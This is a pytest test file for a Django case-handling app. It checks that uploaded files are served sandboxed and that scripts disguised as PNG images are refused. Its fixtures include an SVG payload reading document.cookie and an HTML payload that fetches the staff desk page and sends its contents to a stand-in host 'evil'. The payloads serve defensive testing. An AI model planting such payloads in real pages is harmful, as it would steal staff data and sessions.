"""Every uploaded file is served so that nothing in it can run in our origin: a sandboxing CSP
that loads nothing, nosniff, and attachment unless a real image is shown inline. An SVG or an
HTML page disguised as a PNG is refused at upload, and served as bare bytes if it got in."""
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from minpan.cases.models import Case
from minpan.cases.transitions import apply
from minpan.desk.models import Attachment as StaffFile
from minpan.policies.presets import PRESETS
from minpan.portal.models import Attachment
from tests.flow import dispatched
from tests.images import PNG
from tests.portal.conftest import PDF, form_data

SANDBOX = "sandbox; default-src 'none'"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>'
HTML = b"<html><body><script>fetch('/desk/').then(r=>r.text()).then(t=>location='//evil/?'+t)</script></body></html>"

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def files_dir(settings, tmp_path):
    settings.MINPAN_FILES_DIR = tmp_path / "files"
    return settings.MINPAN_FILES_DIR


def sandboxed(resp, *, inline=False):
    assert resp.status_code == 200
    assert resp["Content-Security-Policy"] == SANDBOX
    assert resp["X-Content-Type-Options"] == "nosniff"
    assert resp["Content-Disposition"].startswith("inline;" if inline else "attachment;")
    assert "no-store" in resp["Cache-Control"]


@pytest.mark.parametrize("disguise", [SVG, HTML])
def test_a_script_disguised_as_a_png_is_refused_on_the_portal(client, disguise):
    fake = SimpleUploadedFile("路灯.png", disguise, "image/png")
    resp = client.post("/write/", {**form_data(client), "attachments": [fake]})
    assert resp.status_code == 400 and "不是可接受的图片或 PDF 文件" in resp.content.decode()
    assert Case.objects.count() == 0


@pytest.mark.parametrize("disguise", [SVG, HTML])
def test_a_script_disguised_as_a_png_is_refused_on_the_desk(client, city, disguise):
    case = dispatched(city, "tongliao")
    client.force_login(city.handler)
    resp = client.post(f"/desk/case/{case.pk}/files/", {"file": SimpleUploadedFile("现场.png", disguise)}, follow=True)
    assert "文件内容与扩展名“.png”不符" in resp.content.decode() and StaffFile.objects.count() == 0


def test_a_writers_file_that_got_in_some_other_way_is_served_as_bytes_in_a_sandbox(client, city, files_dir):
    files = [SimpleUploadedFile("路灯.png", PNG, "image/png"), SimpleUploadedFile("说明.pdf", PDF, "application/pdf")]
    assert client.post("/write/", {**form_data(client), "attachments": files}).status_code == 302
    case = Case.objects.get()
    apply(case, "accept", actor=city.operator)
    apply(case, "classify", actor=city.operator, msg_type=PRESETS[case.policy_name].message_types[0], domain="urban")
    apply(case, "dispatch", actor=city.operator, lead=city.housing)
    photo, pdf = Attachment.objects.get(name="路灯.png"), Attachment.objects.get(name="说明.pdf")
    client.force_login(city.handler)
    url = f"/desk/case/{case.pk}/writer-files/"
    sandboxed(client.get(f"{url}{photo.pk}/?inline=1"), inline=True)
    sandboxed(client.get(f"{url}{pdf.pk}/"))
    (files_dir / photo.stored_as).write_bytes(SVG)  # an import, an old version: judged by its bytes when served
    resp = client.get(f"{url}{photo.pk}/?inline=1")
    sandboxed(resp)
    assert resp["Content-Type"] == "application/octet-stream"


def test_a_staff_file_downloads_in_a_sandbox(client, city):
    case = dispatched(city, "tongliao")
    client.force_login(city.handler)
    client.post(f"/desk/case/{case.pk}/files/", {"file": SimpleUploadedFile("说明.pdf", PDF)})
    item = StaffFile.objects.get()
    resp = client.get(f"/desk/case/{case.pk}/files/{item.pk}/")
    sandboxed(resp)
    assert b"".join(resp.streaming_content) == PDF
